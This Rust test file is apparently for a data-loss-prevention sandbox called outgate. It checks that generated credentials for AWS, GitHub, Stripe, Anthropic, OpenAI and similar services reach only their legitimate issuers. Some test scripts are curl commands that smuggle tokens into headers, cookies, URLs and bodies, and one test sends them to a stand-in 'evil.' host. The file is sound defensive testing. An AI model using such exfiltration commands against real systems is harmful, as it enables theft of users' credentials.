//! Credentials of many kinds at their own issuers: as real clients show them they arrive, by
//! default and under `--strict`; in any other place nothing does, nor at a name of a customer
//! that no rule spells out.

use outgate_dlp::sample;
use outgate_harness::{Identity, Lab, Sandbox, lab_tests};

use crate::{bash, confined, thief};

/// A client of an issuer: its host, the template of its credential, what it asks, and with
/// which options of curl it shows the credential as `$T`.
struct Client {
    host: &'static str,
    template: &'static str,
    path: &'static str,
    shown: &'static str,
}

const fn client(
    host: &'static str,
    template: &'static str,
    path: &'static str,
    shown: &'static str,
) -> Client {
    Client {
        host,
        template,
        path,
        shown,
    }
}

const CLIENTS: &[Client] = &[
    client(
        "bucket.s3.amazonaws.com",
        "AKIA{akid}",
        "/key",
        "-H \"Authorization: AWS4-HMAC-SHA256 Credential=$T/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"",
    ),
    client(
        "other.s3.amazonaws.com",
        "ASIA{akid}",
        "/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=$T%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "",
    ),
    client(
        "acme.blob.core.windows.net",
        "sv=2024-11-04&se=2030-01-01&sp=r&sig={b62:43}%3D",
        "/c/b?$T",
        "",
    ),
    client(
        "storage.googleapis.com",
        "ya29.{b64u:120}",
        "/storage/v1/b",
        "-H \"Authorization: Bearer $T\"",
    ),
    client(
        "maps.googleapis.com",
        "AIza{b64u:35}",
        "/maps/api/geocode/json?key=$T",
        "",
    ),
    client(
        "github.com",
        "ghp_{b62:30}{crc62}",
        "/a/b.git/info/refs",
        "-u \"x-access-token:$T\"",
    ),
    client(
        "api.github.com",
        "ghp_{b62:30}{crc62}",
        "/user",
        "-H \"Authorization: token $T\"",
    ),
    client(
        "gitlab.com",
        "glpat-{b64u:20}",
        "/api/v4/user",
        "-H \"PRIVATE-TOKEN: $T\"",
    ),
    client(
        "auth.docker.io",
        "dckr_pat_{b64u:27}",
        "/token?service=a",
        "-u \"acme:$T\"",
    ),
    client(
        "rubygems.org",
        "rubygems_{hex:48}",
        "/api/v1/gems",
        "-H \"Authorization: $T\"",
    ),
    client(
        "api.stripe.com",
        "sk_live_{b62:99}",
        "/v1/charges",
        "-u \"$T:\" -d amount=1",
    ),
    client(
        "slack.com",
        "xoxb-123456789012-123456789012-{b62:24}",
        "/api/chat.postMessage",
        "-d \"channel=C&token=$T&text=hello\"",
    ),
    client(
        "api.anthropic.com",
        "sk-ant-api03-{b64u:93}AA",
        "/v1/messages",
        "-H \"x-api-key: $T\" -H 'Content-Type: application/json' -d '{}'",
    ),
    client(
        "api.openai.com",
        "sk-proj-{b64u:74}T3BlbkFJ{b64u:74}",
        "/v1/models",
        "-H \"Authorization: Bearer $T\"",
    ),
    client(
        "api.telegram.org",
        "1234567890:AA{b64u:33}",
        "/bot$T/getMe",
        "",
    ),
    client(
        "acme.atlassian.net",
        "ATATT3x{b64u:180}={HEX:8}",
        "/rest/api/3/myself",
        "-u \"me@acme.example:$T\"",
    ),
    client(
        "acme.jfrog.io",
        "AKCp{b62:69}",
        "/artifactory/api/system/ping",
        "-H \"X-JFrog-Art-Api: $T\"",
    ),
];

/// Ways to the same hosts in which no client shows a credential.
const WAYS: &[&str] = &[
    "-H \"X-Any: $T\" \"$URL/\"",
    "-A \"$T\" \"$URL/\"",
    "-b \"z=$T\" \"$URL/\"",
    "\"$URL/a/$T/b\"",
    "-H \"Authorization: Digest $T\" \"$URL/\"",
    "-d \"z=$T\" \"$URL/v1/any\"",
    "-H 'Content-Type: application/json' -d \"{\\\"messages\\\":[{\\\"content\\\":\\\"$T\\\"}]}\" \"$URL/v1/any\"",
    "-F \"z=$T\" \"$URL/v1/any\"",
];

/// A sandbox that may ask a host for anything.
fn towards<'l>(lab: &'l Lab, host: &str, flags: &[&str]) -> Sandbox<'l> {
    let sandbox = confined(lab, Identity::Own)
        .allow(&format!("http://{host}:8099"))
        .pin(&format!("{host}:8099=127.0.0.1:8099"));
    flags
        .iter()
        .fold(sandbox, |sandbox, flag| sandbox.flag(flag))
}

/// A credential that nobody issued, and the words of every script.
fn with(client: &Client, script: &str) -> (String, Vec<String>) {
    let text = String::from_utf8(sample(client.template, 11)).expect("letters");
    let host = client.host;
    let words = bash(&format!("T='{text}'; URL=http://{host}:8099; {script}"));
    (text, words)
}

lab_tests! {
    fn clients_of_issuers_are_served_by_default_and_under_strict(lab) {
        let thief = thief();
        for flags in [&[][..], &["--strict"]] {
            for client in CLIENTS {
                let script = format!("curl -sS {} \"$URL{}\"", client.shown, client.path);
                let (_, words) = with(client, &script);
                let outcome = towards(lab, client.host, flags).run(&words);
                assert_eq!(outcome.stdout, "arrived\n", "{} {flags:?}: {outcome}", client.host);
                assert!(!outcome.stderr.contains("denied"), "{} {flags:?}: {outcome}", client.host);
                assert_ne!(thief.take(), b"");
            }
        }
    }

    fn no_issuer_gets_a_credential_where_no_client_shows_it(lab) {
        let thief = thief();
        for flags in [&[][..], &["--strict"]] {
            for client in CLIENTS {
                // All that a query holds is this one's place.
                let scripts: Vec<String> = WAYS.iter().map(|way| format!("curl -sS {way}")).collect();
                let (text, words) = with(client, &scripts.join("; "));
                let outcome = towards(lab, client.host, flags).run(&words);
                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                let what = format!("{} {flags:?}: {outcome}", client.host);
                assert!(!sent.contains(&text), "{what}: {sent}");
                assert!(!outcome.stdout.contains("arrived"), "{what}: {sent}");
                assert_eq!(outcome.stdout.matches("outgate denied").count(), WAYS.len(), "{what}");
            }
        }
    }

    fn half_of_a_pair_goes_in_no_place_of_a_signature_even_where_a_rule_spells_a_machine_out(lab) {
        let thief = thief();
        let secret = String::from_utf8(sample("{b62:40}", 12)).expect("letters");
        for host in ["ec2-54-1-2-3.compute-1.amazonaws.com", "x1.execute-api.us-east-1.amazonaws.com", "bucket.s3.amazonaws.com"] {
            for flags in [&[][..], &["--strict"]] {
                let shown = [
                    format!("-H \"Authorization: AWS $T:{secret}\" \"$URL/\""),
                    format!("\"$URL/?X-Amz-Credential=$T&X-Amz-Signature={secret}\""),
                    format!("\"$URL/?AWSAccessKeyId=$T&Signature={secret}\""),
                ];
                let scripts: Vec<String> = shown.iter().map(|shown| format!("curl -sS {shown}")).collect();
                let client = client(host, "AKIA{akid}", "", "");
                let (_, words) = with(&client, &scripts.join("; "));
                let outcome = towards(lab, host, flags).run(&words);
                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                assert!(!sent.contains(&secret), "{host} {flags:?}: {sent}");
                assert_eq!(outcome.stdout.matches("outgate denied").count(), 3, "{host} {flags:?}: {outcome}");
            }
        }
    }

    fn what_was_clean_before_hides_no_half_of_a_pair(lab) {
        let thief = thief();
        let host = "bucket.s3.amazonaws.com";
        let client = client(host, "AKIA{akid}", "", "");
        let signed = "-H \"Authorization: AWS4-HMAC-SHA256 Credential=$T/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"";
        for (number, flags) in [&[][..], &["--strict"]].into_iter().enumerate() {
            for (seed, beside) in ["-H \"x-b: SECRET\" \"$URL/\"", "\"$URL/?b=SECRET\"", "\"$URL/SECRET\"", "-b \"a=SECRET\" \"$URL/\""].iter().enumerate() {
                let seed = u64::try_from(20 + 4 * number + seed).expect("small");
                let secret = String::from_utf8(sample("{b62:40}", seed)).expect("letters");
                let beside = beside.replace("SECRET", &secret);
                // Each half was clean by itself, in either order.
                for script in [
                    format!("curl -sS {signed} \"$URL/\"; curl -sS {signed} \"$URL/other\"; curl -sS {signed} {beside}"),
                    format!("curl -sS {beside} >/dev/null; curl -sS {signed} {beside}"),
                ] {
                    let (_, words) = with(&client, &script);
                    let outcome = towards(lab, host, flags).run(&words);
                    let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                    let together = sent.split("\r\n\r\n").any(|one| one.contains(&secret) && one.contains("Signature="));
                    assert!(!together, "{script} {flags:?}: {sent}");
                    assert!(outcome.stdout.contains("outgate denied"), "{script} {flags:?}: {outcome}");
                }
            }
        }
    }

    fn a_name_of_a_customer_is_an_issuer_only_where_a_rule_spells_it_out(lab) {
        let (thief, names) = (thief(), outgate_harness::names::Names::start(vec![std::net::Ipv4Addr::LOCALHOST]));
        for client in CLIENTS.iter().filter(|client| client.host.starts_with("acme.") && !client.host.contains("windows")) {
            let (_, below) = client.host.split_once('.').expect("a domain");
            let script = format!("curl -sS --max-time 10 {} \"$URL{}\"", client.shown, client.path);
            let (text, words) = with(client, &script.replace("$URL", &format!("http://evil.{below}:8099")));
            let outcome = confined(lab, Identity::Own)
                .allow(&format!("http://*.{below}:8099"))
                .run(&words);
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(!sent.contains(&text), "{}: {sent}", client.host);
            assert!(outcome.stderr.contains("only if a rule spells it out"), "{outcome}");
            assert!(!outcome.stdout.contains("arrived"), "{outcome}");
        }
        drop(names);
    }
}
